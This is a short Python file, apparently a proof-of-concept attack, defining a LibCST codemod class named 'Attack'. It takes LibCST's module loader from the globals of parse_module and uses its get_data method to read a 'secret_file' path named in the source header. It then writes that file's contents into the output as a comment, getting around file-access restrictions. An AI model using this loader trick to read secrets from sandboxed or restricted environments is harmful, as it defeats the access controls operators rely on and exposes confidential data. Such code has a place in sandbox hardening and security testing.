"""Ask the loader of LibCST's own module for the data of another file."""

import ast

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


def read(path):
    loader = cst.parse_module.__globals__["__loader__"]
    return loader.get_data(path).decode().strip()


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Loot by a loader."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        loot = read(target["secret_file"])
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment(f"# {loot}"))])
